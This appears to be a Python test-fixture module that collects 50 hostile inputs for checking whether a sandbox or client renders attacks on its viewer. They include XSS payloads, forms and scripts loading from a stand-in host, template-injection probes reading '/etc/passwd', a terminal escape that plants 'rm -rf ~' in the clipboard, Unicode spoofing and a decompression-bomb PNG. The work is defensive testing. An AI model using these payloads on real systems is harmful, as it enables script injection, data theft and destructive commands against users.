"""Texts and files with which a sandbox or a client attacks the person who looks at them: 50 in all.

Markup that would run sets `window.hostile`, adds an element with the attribute `data-hostile`, or loads something from
HOST, so that a test notices whichever of them works.
"""

from __future__ import annotations

import io
import struct
import unicodedata
import zlib

import PIL.Image

HOST = "hostile.invalid"

_RUN = "window.hostile=1"
_ATTRIBUTE = "data-hostile"

MARKUP = {
    "script": f"<script {_ATTRIBUTE}>{_RUN}</script>",
    "script from elsewhere": f"<script {_ATTRIBUTE} src=//{HOST}/x.js></script>",
    "script in odd case": f"<ScRiPt {_ATTRIBUTE}\n>{_RUN}</sCrIpT >",
    "script in a script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "end of a script": f"</script><script {_ATTRIBUTE}>{_RUN}</script>",
    "image that fails": f"<img {_ATTRIBUTE} src=x onerror={_RUN}>",
    "image from elsewhere": f"<img {_ATTRIBUTE} src=https://{HOST}/pixel.png>",
    "SVG": f"<svg {_ATTRIBUTE} onload={_RUN}><script>{_RUN}</script></svg>",
    "SVG with an animation": f"<svg {_ATTRIBUTE}><animate onbegin={_RUN} attributeName=x dur=1s>",
    "SVG with HTML": f"<svg><foreignObject><body {_ATTRIBUTE} onload={_RUN}></foreignObject></svg>",
    "MathML": f"<math {_ATTRIBUTE}><mtext><table><mglyph><style><img src onerror={_RUN}></style>",
    "frame": f"<iframe {_ATTRIBUTE} src='javascript:parent.{_RUN}'></iframe>",
    "frame with a document": f'<iframe {_ATTRIBUTE} srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "object": f"<object {_ATTRIBUTE} data='data:text/html,<script>{_RUN}</script>'></object>",
    "video": f"<video {_ATTRIBUTE}><source onerror={_RUN}></video>",
    "element that opens": f"<details {_ATTRIBUTE} open ontoggle={_RUN}>",
    "element with the focus": f"<input {_ATTRIBUTE} autofocus onfocus={_RUN}>",
    "address of a script": f"<a {_ATTRIBUTE} href=java&#115;cript:{_RUN}>click here</a>",
    "form": f"<form {_ATTRIBUTE} action=https://{HOST}/><button>Approve once</button></form>",
    "end of a form": f"</form></td></tr></table><form {_ATTRIBUTE} action=//{HOST}/>",
    "base": f"<base {_ATTRIBUTE} href=//{HOST}/>",
    "refresh": f"<meta {_ATTRIBUTE} http-equiv=refresh content='0;url=//{HOST}/'>",
    "style": f"<style {_ATTRIBUTE}>body{{background:url(//{HOST}/)}}*{{display:none}}</style>",
    "style attribute": f"<b {_ATTRIBUTE} style='position:fixed;inset:0;background:red'>all is well</b>",
    "stylesheet": f"<link {_ATTRIBUTE} rel=stylesheet href=//{HOST}/x.css>",
    "htmx": f"<b {_ATTRIBUTE} hx-get=/sign-out hx-trigger=load hx-on:htmx:load={_RUN}>",
    "server-sent events": f"<b {_ATTRIBUTE} hx-ext=sse sse-connect=//{HOST}/ sse-swap=x>",
    "attribute in double quotes": f'" {_ATTRIBUTE} autofocus onfocus="{_RUN}" x="',
    "attribute in single quotes": f"' {_ATTRIBUTE} autofocus onfocus='{_RUN}' x='",
    "attribute without quotes": f"x {_ATTRIBUTE} onmouseover={_RUN} ",
    "end of what is around": f"--></pre></code></textarea></title></li></ol></main><h1 {_ATTRIBUTE}>",
    "comment": f"<!--><img {_ATTRIBUTE} src onerror={_RUN}>-->",
    "template": "{{ 7*191 }}${7*191}#{7*191}{% include '/etc/passwd' %}{{ self.__init__.__globals__ }}",
    "entities": f"&lt;img {_ATTRIBUTE}&gt;&#60;img {_ATTRIBUTE}&#62;\\u003cimg {_ATTRIBUTE}\\u003e",
    "event of a stream": f"\n\nevent: layout\ndata: <img {_ATTRIBUTE} src onerror={_RUN}>\n\n",
}

TERMINAL = {
    "colours": "\x1b[31mred\x1b[0m\x9b5mblink",
    "clear screen": "\x1b[2J\x1b[H\x1b[3Jall is well",
    "title": "\x1b]0;all is well\x07\x1b]2;all is well\x1b\\",
    "link": f"\x1b]8;;https://{HOST}/\x1b\\click here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "sequence without an end": "\x1bP1$r" + "x" * 64,
    "overwritten": "refused\r\x1b[Kallowed \b\b\b\b\b\b\b\b\x7f",
}

UNICODE = {
    "text turned around": "\u202egnp.exe\u202c \u2066\u2067txt\u2069",
    "characters without width": "al\u200blo\u200cw\u200ded\u2060 \ufeff\u00ad\u180e\u3164",
    "letters of another script": "\u0430pple.com \u0455\u0435\u0441ure.\u0435xample \uff1cscript\uff1e",
    "stacked marks": "Z" + "\u0301\u0489\u0336" * 200,
    "controls and half characters": "a\x00b\x01c\x85d\x9fe\u2028f\u2029g\ud800h\udfffi\U000e0041j",
    "name of 4 KB": "n" * 4096,
}


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png() -> bytes:
    out = io.BytesIO()
    PIL.Image.new("RGB", (4, 4), "red").save(out, "PNG")
    return out.getvalue()


FILES = {
    # Its name and its kind say PNG.
    "SVG in place of a PNG": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'><script>{_RUN}</script></svg>".encode(),
    "PNG that is HTML, too": _png() + f"<html><script {_ATTRIBUTE}>{_RUN}</script>".encode(),
}
BROKEN_FILES = {
    "half a PNG": _png()[:20],
    "PNG of 4 gigapixels": b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", 65535, 65535, 8, 2, 0, 0, 0)),
}

TEXTS = MARKUP | TERMINAL | UNICODE


def unseen(text: str) -> set[str]:
    """The characters of a text that a person can't see or that turn it around, except newlines and tabs."""
    # Controls, formats such as bidi marks, surrogates, separators of lines and paragraphs.
    kinds = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return {each for each in text if each not in "\n\t" and unicodedata.category(each) in kinds}
